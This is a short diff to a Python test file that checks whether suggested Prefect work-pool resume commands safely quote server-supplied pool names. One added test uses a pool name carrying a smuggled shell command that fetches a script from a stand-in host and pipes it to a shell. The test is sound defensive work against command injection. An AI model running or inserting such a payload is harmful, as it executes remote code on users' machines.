@@ -332,6 +332,11 @@ def test_a_part_is_judged_and_what_is_not_ok_has_its_next_step(
     assert bool(row.next_step) is (state is not State.OK)
 
 
+def test_a_command_to_paste_runs_nothing_of_what_the_server_calls_its_pool() -> None:
+    row = the("work pool spot", pool_rows(name="x; curl evil|sh", is_paused=True))
+    assert row.next_step == "prefect work-pool resume 'x; curl evil|sh'"
+
+
 NOT_SERVED: Final = {
     "404 of the framework": answer(404, {"detail": "Not Found"}),
     "404 in other words": answer(404, {"message": "no such route"}),
